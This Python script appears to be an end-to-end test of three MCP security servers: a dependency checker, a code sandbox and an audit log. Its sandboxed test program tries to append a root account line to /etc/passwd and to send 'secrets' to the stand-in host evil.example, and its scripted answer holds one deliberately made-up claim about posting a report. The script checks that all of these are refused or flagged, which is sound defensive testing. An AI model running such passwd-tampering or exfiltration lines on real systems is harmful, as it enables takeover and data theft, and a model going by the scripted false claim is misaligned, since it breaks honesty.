"""One assistant session over the three MCP servers of the Security Triad.

A real MCP client (the official Python SDK, PyPI `mcp`) plays an AI assistant: it starts
`sentinel mcp`, `babuino mcp` and `cutufato mcp` over stdio from an `mcpServers` configuration
(examples/mcp/mcp.json), then

  1. asks Sentinel about `requsts` (blocked, `requests` suggested) and `requests` (allowed);
  2. runs a small Python program in Babuino's sandbox: it prints a result, tries to write
     /etc/passwd (denied) and to reach evil.example, a host the server does not allow (blocked);
     then asks for that host, and for a longer timeout than the server allows (both refused);
  3. records its answer with Cutufato, the tool results as context: one sentence is supported
     by nothing and is flagged;
  4. verifies the record, and lists the session: Sentinel's block, Babuino's run and the
     decision, in the one log.

It prints a transcript and exits 0 when every expectation held, 1 naming the first that did not,
2 when the session could not start (configuration, missing binary, venv without the SDK).

usage: python session.py [--config mcp.json] [--server-log FILE] [--json FILE]

Environment: TRIAD_BIN (directory of the three binaries; otherwise PATH), TRIAD_AUDIT (the
Cutufato log directory, made by `cutufato init --dir`), TRIAD_SESSION (the session id), and the
servers' own variables (SENTINEL_PYPI_URL, SENTINEL_CACHE_DIR, ...), which the servers inherit.
`${VAR}` and `${VAR:-default}` in the configuration's command, args and env are expanded as
Claude Code expands them in `.mcp.json`. scripts/mcp-session.sh sets all of this up offline.
"""

import argparse
import asyncio
import builtins
import json
import os
import re
import shutil
import sys
from contextlib import AsyncExitStack

try:
    from mcp import Client, StdioServerParameters
    from mcp.client.stdio import stdio_client
    from mcp.shared.exceptions import MCPError
except ImportError as e:  # pragma: no cover - depends on the interpreter
    sys.stderr.write(
        f"session.py: the MCP Python SDK is not importable ({e}): run it with the venv's python "
        "($TRIAD_CACHE/venv-mcp/bin/python, made by ./triad test) or `pip install mcp==2.3.0`\n"
    )
    sys.exit(2)

SERVERS = ("sentinel", "babuino", "cutufato")
HERE = os.path.dirname(os.path.abspath(__file__))


class SetupError(Exception):
    """The session could not start (exit 2)."""


class Unexpected(Exception):
    """A tool answered other than the session expects (exit 1)."""


def expect(cond, what, detail=None):
    if not cond:
        msg = what if detail is None else f"{what}\n    got: {detail}"
        raise Unexpected(msg)


_VAR = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")


def expand(value, env, where):
    """`${VAR}` and `${VAR:-default}`, as Claude Code expands them in .mcp.json."""

    def one(m):
        name, default = m.group(1), m.group(2)
        if env.get(name):
            return env[name]
        if default is not None:
            return default
        raise SetupError(f"{where}: ${{{name}}} is not set and has no default (write ${{{name}:-...}})")

    return _VAR.sub(one, value)


def resolve_command(command, env):
    """The server binary: $TRIAD_BIN/<command> when TRIAD_BIN is set and holds it, else PATH."""
    if os.sep in command:
        found = command if os.access(command, os.X_OK) else None
    else:
        found = None
        bindir = env.get("TRIAD_BIN")
        if bindir and os.access(os.path.join(bindir, command), os.X_OK):
            found = os.path.join(bindir, command)
        if found is None:
            found = shutil.which(command, path=env.get("PATH"))
    if found is None:
        raise SetupError(
            f"`{command}` not found in $TRIAD_BIN or PATH: build it (`cargo build -p {command}`) "
            "and set TRIAD_BIN to the target directory (e.g. target/debug)"
        )
    return os.path.abspath(found)


def load_config(path):
    """The three servers of an `mcpServers` configuration, as stdio server parameters."""
    try:
        with open(path, encoding="utf-8") as f:
            config = json.load(f)
    except OSError as e:
        raise SetupError(f"cannot read the configuration {path}: {e.strerror}") from e
    except json.JSONDecodeError as e:
        raise SetupError(f"{path} is not JSON: {e}") from e
    servers = config.get("mcpServers") if isinstance(config, dict) else None
    if not isinstance(servers, dict):
        raise SetupError(f"{path}: no `mcpServers` object")
    params = {}
    for name in SERVERS:
        s = servers.get(name)
        if not isinstance(s, dict) or not isinstance(s.get("command"), str):
            raise SetupError(f"{path}: `mcpServers.{name}` with a `command` is missing")
        where = f"{path}: mcpServers.{name}"
        # Like desktop assistants, the server inherits the client's environment, plus its own.
        env = dict(os.environ)
        for k, v in (s.get("env") or {}).items():
            env[k] = expand(str(v), os.environ, f"{where}.env.{k}")
        args = [expand(str(a), os.environ, f"{where}.args") for a in s.get("args") or []]
        command = resolve_command(expand(s["command"], os.environ, f"{where}.command"), env)
        params[name] = StdioServerParameters(command=command, args=args, env=env)
    return params


def text_of(result):
    return "\n".join(c.text for c in result.content if getattr(c, "type", "") == "text")


class Transcript:
    def __init__(self):
        self.color = sys.stdout.isatty()

    def _c(self, code, s):
        return f"\033[{code}m{s}\033[0m" if self.color else s

    def step(self, title):
        print("\n" + self._c("1", f"━━ {title}"))

    def call(self, server, tool, args):
        shown = json.dumps(args, ensure_ascii=False)
        if len(shown) > 110:
            shown = shown[:107] + "..."
        print(self._c("36", f"assistant → {server}.{tool} {shown}"))

    def answer(self, text, limit=14):
        lines = text.rstrip("\n").splitlines()
        for line in lines[:limit]:
            print(f"  ← {line}")
        if len(lines) > limit:
            print(f"  ← … ({len(lines) - limit} more lines)")

    def ok(self, what):
        print(self._c("32", f"  ✓ {what}"))


async def call(clients, t, server, tool, args):
    t.call(server, tool, args)
    try:
        r = await clients[server].call_tool(tool, args)
    except MCPError as e:
        raise Unexpected(f"{server}.{tool}: protocol error {e.error.code}: {e.error.message}") from e
    text = text_of(r)
    t.answer(text)
    expect(not r.is_error, f"{server}.{tool} returned a tool error", text)
    expect(isinstance(r.structured_content, dict), f"{server}.{tool} returned no structured content")
    return r.structured_content, text


PROGRAM = """\
import statistics
import urllib.request

latencies_ms = [112, 98, 143, 101, 97, 250, 105]
print(f"median latency {statistics.median(latencies_ms)} ms over {len(latencies_ms)} requests")

try:
    with open("/etc/passwd", "a") as f:
        f.write("assistant::0:0::/root:/bin/sh\\n")
    print("write /etc/passwd: succeeded")
except OSError as e:
    print(f"write /etc/passwd: refused ({e.strerror})")

try:
    urllib.request.urlopen("http://evil.example/upload?data=secrets", timeout=5).read()
    print("evil.example: reached")
except Exception as e:
    print(f"evil.example: refused ({type(e).__name__})")
"""

PROMPT = (
    "Which HTTP library should the latency script use, and what is the median latency of the "
    "sample? Run the script in the sandbox first."
)

# The assistant's answer: the first three sentences rest on the tool results given as context;
# the last is made up (no tool said anything about a report or a channel) and must be flagged.
ANSWER = (
    "Use requests, not requsts: requsts is not in the registry and looks like a typosquat of the "
    "popular requests. "
    "The sandboxed script printed a median latency of 105 ms over 7 requests. "
    "The sandbox refused its write to /etc/passwd and its connection to evil.example. "
    "I also posted the latency report to the #ops channel at 09:00 for the on-call team."
)
UNSUPPORTED = "I also posted the latency report"


async def session(params, server_log, summary):
    t = Transcript()
    # The session the configuration gives the recording servers; the assistant passes the same
    # id to record_decision so its decision joins their events.
    sessions = {params[n].env.get("TRIAD_SESSION") for n in ("sentinel", "babuino")}
    if len(sessions) != 1 or None in sessions:
        raise SetupError(
            "sentinel and babuino must record under one session: give both the same TRIAD_SESSION "
            f"in the configuration's env (got {sorted(map(str, sessions))})"
        )
    sid = sessions.pop()
    async with AsyncExitStack() as stack:
        clients = {}
        for name in SERVERS:
            try:
                clients[name] = await stack.enter_async_context(
                    Client(stdio_client(params[name], errlog=server_log))
                )
            except Exception as e:
                why = leaf(e)
                raise SetupError(
                    f"`{name}` did not start as an MCP server ({type(why).__name__}: {why}); "
                    "its stderr says why (--server-log)"
                ) from e
        print(f"session {sid}: three MCP servers started ({', '.join(SERVERS)})")
        granted = {
            "sentinel": "validate_dependency",
            "babuino": "run_code",
            "cutufato": "record_decision",
        }
        for name in SERVERS:
            tools = sorted(tl.name for tl in (await clients[name].list_tools()).tools)
            print(f"  {name:9} {', '.join(tools)}")
            expect(granted[name] in tools, f"{name} does not offer `{granted[name]}`", tools)

        t.step("1. Sentinel: is the dependency real, and the one meant?")
        typo, typo_text = await call(
            clients, t, "sentinel", "validate_dependency", {"ecosystem": "pypi", "name": "requsts"}
        )
        expect(typo.get("decision") == "block", "Sentinel did not block `requsts`", typo.get("decision"))
        suggested = [s.get("name") for p in typo.get("packages", []) for s in p.get("suggestions", [])]
        expect("requests" in suggested, "Sentinel did not suggest `requests` for `requsts`", suggested)
        t.ok(f"requsts blocked; suggested: {', '.join(suggested[:3])}")
        good, _ = await call(
            clients, t, "sentinel", "validate_dependency", {"ecosystem": "pypi", "name": "requests"}
        )
        expect(good.get("decision") == "allow", "Sentinel did not allow `requests`", good.get("decision"))
        t.ok("requests allowed")

        t.step("2. Babuino: the assistant's code runs in the sandbox")
        run, _ = await call(clients, t, "babuino", "run_code", {"code": PROGRAM, "language": "python"})
        exit_ = run.get("exit", {})
        expect(
            exit_.get("kind") == "exited" and exit_.get("code") == 0,
            "the program did not exit 0",
            exit_,
        )
        stdout = run.get("stdout", "")
        expect("median latency 105 ms over 7 requests" in stdout, "the program's result is missing", stdout)
        expect("write /etc/passwd: refused" in stdout, "the write to /etc/passwd was not refused", stdout)
        expect("evil.example: refused" in stdout, "evil.example was not refused", stdout)
        kinds = [e.get("kind") for e in run.get("events", [])]
        expect("denied-write" in kinds, "no denied-write event in the run", kinds)
        blocked = [
            e.get("detail", "")
            for e in run.get("events", [])
            if e.get("kind") == "blocked-connect"
        ]
        expect(
            any("evil.example" in d for d in blocked),
            "no blocked-connect event for evil.example",
            run.get("events"),
        )
        run_id = (run.get("audit") or {}).get("execution_id")
        expect(bool(run_id), "the run was not recorded (no audit.execution_id)", run.get("audit"))
        t.ok(f"result printed; /etc/passwd write denied; evil.example blocked; recorded as {run_id}")
        # The assistant cannot widen its own sandbox: the server's flags are the ceiling.
        for args, ceiling in (
            ({"network_allow": ["evil.example"]}, "evil.example is not allowed by this server"),
            ({"timeout": "120s"}, "more than this server allows"),
        ):
            args = {"code": "print('widened')", "language": "python", **args}
            t.call("babuino", "run_code", args)
            r = await clients["babuino"].call_tool("run_code", args)
            text = text_of(r)
            t.answer(text)
            expect(
                r.is_error and ceiling in text and "widened" not in text,
                f"babuino let a call past its ceiling ({ceiling})",
                text,
            )
        t.ok("asking for another host or a longer timeout is refused, naming the ceiling; nothing ran")

        t.step("3. Cutufato: the answer, signed, with its sources")
        context = [
            {"doc_id": "sentinel.validate_dependency", "text": typo_text},
            {"doc_id": "babuino.run_code", "text": stdout},
        ]
        record, _ = await call(
            clients,
            t,
            "cutufato",
            "record_decision",
            {
                "prompt": PROMPT,
                "response": ANSWER,
                "model": "example-assistant",
                "actor": "coding-assistant",
                "purpose": "latency script",
                "session": sid,
                "context": context,
            },
        )
        decision_id = record.get("execution_id")
        expect(bool(decision_id), "record_decision returned no execution id", record)
        expect(record.get("hallucination_detected") is True, "the made-up sentence was not flagged", record)
        unsupported = [s["text"] for s in record.get("sentences", []) if not s.get("supported")]
        expect(
            len(unsupported) == 1 and unsupported[0].startswith(UNSUPPORTED),
            "exactly the made-up sentence should be unsupported",
            unsupported,
        )
        cited = [
            [src.get("doc_id") for src in sent.get("sources", [])][:1]
            for sent in record.get("sentences", [])
            if sent.get("supported")
        ]
        expect(
            cited
            == [["sentinel.validate_dependency"], ["babuino.run_code"], ["babuino.run_code"]],
            "the supported sentences should cite Sentinel's verdict, then the run's output twice",
            cited,
        )
        t.ok("each supported sentence cites the tool result it rests on")
        t.ok(f"recorded {decision_id}; 1 unsupported sentence flagged: \"{unsupported[0]}\"")

        t.step("4. One log, the whole session")
        for eid in (decision_id, run_id):
            v, _ = await call(clients, t, "cutufato", "verify_decision", {"execution_id": eid})
            expect(v.get("verified") is True, f"{eid} did not verify", v)
        t.ok("the decision and the run verify")
        listed, _ = await call(clients, t, "cutufato", "list_records", {"session": sid, "limit": 50})
        records = listed.get("records", [])
        sources = {(r.get("kind"), r.get("source")) for r in records}
        sentinel_blocks = [
            r for r in records
            if r.get("source") == "sentinel" and r.get("outcome") == "block"
        ]
        expect(len(sentinel_blocks) == 1, "the session lacks Sentinel's one block", records)
        expect(
            any(r.get("execution_id") == run_id and r.get("source") == "babuino" for r in records),
            "the session lacks Babuino's run",
            records,
        )
        expect(
            any(r.get("execution_id") == decision_id and r.get("kind") == "decision" for r in records),
            "the session lacks the decision",
            records,
        )
        expect(len(records) == 3, "the session should hold exactly 3 records", records)
        t.ok(
            f"session {sid}: {len(records)} records in one log: "
            "Sentinel's block, Babuino's run, the decision"
        )
        if summary is not None:
            json.dump(
                {
                    "session": sid,
                    "decision": decision_id,
                    "run": run_id,
                    "sentinel_block": sentinel_blocks[0].get("execution_id"),
                    "records": len(records),
                    "sources": sorted(f"{k}:{s}" for k, s in sources),
                },
                summary,
                indent=2,
            )
            summary.write("\n")


def leaf(e):
    """The first exception that is not a group (the SDK wraps errors in task-group groups)."""
    group = getattr(builtins, "BaseExceptionGroup", None)
    while group is not None and isinstance(e, group) and e.exceptions:
        e = e.exceptions[0]
    return e


def first_cause(e):
    """The session's own exception inside the SDK's task-group wrappers, if there is one."""
    group = getattr(builtins, "BaseExceptionGroup", None)
    if group is not None and isinstance(e, group):
        for sub in e.exceptions:
            found = first_cause(sub)
            if found is not None:
                return found
        return None
    if isinstance(e, (SetupError, Unexpected, TimeoutError, asyncio.TimeoutError, OSError)):
        return e
    return None


def run(params, log, summary, timeout):
    try:
        asyncio.run(asyncio.wait_for(session(params, log, summary), timeout))
    except BaseException as e:  # the SDK wraps errors raised inside the session in groups
        cause = first_cause(e)
        if cause is None or cause is e:
            raise
        raise cause from None


def main():
    ap = argparse.ArgumentParser(description="One assistant session over the three MCP servers")
    ap.add_argument("--config", default=os.path.join(HERE, "mcp.json"), help="mcpServers JSON file")
    ap.add_argument("--server-log", help="write the servers' stderr here (default: stderr)")
    ap.add_argument("--json", help="write a summary (session, record ids) as JSON here")
    ap.add_argument("--timeout", type=float, default=180, help="seconds for the whole session")
    a = ap.parse_args()
    try:
        params = load_config(a.config)
        log = open(a.server_log, "a", encoding="utf-8") if a.server_log else sys.stderr
        summary = open(a.json, "w", encoding="utf-8") if a.json else None
        run(params, log, summary, a.timeout)
    except SetupError as e:
        sys.stderr.write(f"session.py: {e}\n")
        return 2
    except Unexpected as e:
        sys.stderr.write(f"session.py: expectation failed: {e}\n")
        return 1
    except (asyncio.TimeoutError, TimeoutError):
        sys.stderr.write(f"session.py: the session took longer than {a.timeout:g} s\n")
        return 1
    except OSError as e:
        sys.stderr.write(f"session.py: {e}\n")
        return 2
    print("\nsession complete: every expectation held")
    return 0


if __name__ == "__main__":
    sys.exit(main())
